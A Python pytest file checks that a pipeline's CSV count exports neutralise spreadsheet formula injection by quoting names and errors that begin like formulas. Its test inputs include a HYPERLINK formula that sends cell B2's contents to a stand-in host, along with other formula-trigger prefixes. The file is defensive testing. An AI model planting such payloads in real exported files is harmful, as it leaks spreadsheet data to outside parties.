"""CSV files of counts: no text of others becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from pipeline.operations.serving import counts_file
from pipeline.operations.serving.predictions import NotCounted
from pipeline.operations.serving.records import Recorded
from pipeline.operations.serving.recount import Compared, disagreement
from tests.unit.pipeline.operations.serving.test_recount import answer

LINK = '=HYPERLINK("http://x/?"&B2,"00048").jpg'
FORMULAS = [LINK, "+1.jpg", "-1.jpg", "@SUM(A1).jpg", "\t=1.jpg", "\r=1.jpg"]


def rows_of(file: Path) -> list[dict[str, str]]:
    with file.open(newline="", encoding="utf-8") as lines:
        return list(csv.DictReader(lines))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_name_and_an_error_that_begin_as_a_formula_are_text_in_the_counts(tmp_path: Path, text: str) -> None:
    answers = [answer(text), NotCounted(text, text)]
    assert list(counts_file.write_counts(answers, tmp_path / "counts.csv")) == answers
    counted, failed = rows_of(tmp_path / "counts.csv")
    assert (counted["photo"], counted["count"], counted["expected"]) == (f"'{text}", "2", "1.900000")
    assert (failed["photo"], failed["error"]) == (f"'{text}", f"'{text}")
    comparisons = [Compared(each, Recorded(1)) for each in answers]
    assert list(counts_file.write_comparisons(comparisons, tmp_path / "compared.csv")) == comparisons
    assert [row["photo"] for row in rows_of(tmp_path / "compared.csv")] == [f"'{text}"] * 2


@pytest.mark.parametrize("text", FORMULAS)
def test_a_name_that_begins_as_a_formula_is_text_in_the_list(tmp_path: Path, text: str) -> None:
    counts_file.write_list([disagreement(answer(text), 1)], tmp_path / "list.csv")
    [row] = rows_of(tmp_path / "list.csv")
    assert (row["photo"], row["recorded"], row["counted"]) == (f"'{text}", "1", "2")


@pytest.mark.parametrize("text", ["00048.jpg", "s3://b/=1.jpg", "a-b+c.jpg", "'a.jpg"])
def test_other_names_are_as_they_are(tmp_path: Path, text: str) -> None:
    counts_file.write_list([disagreement(answer(text), 1)], tmp_path / "list.csv")
    assert [row["photo"] for row in rows_of(tmp_path / "list.csv")] == [text]
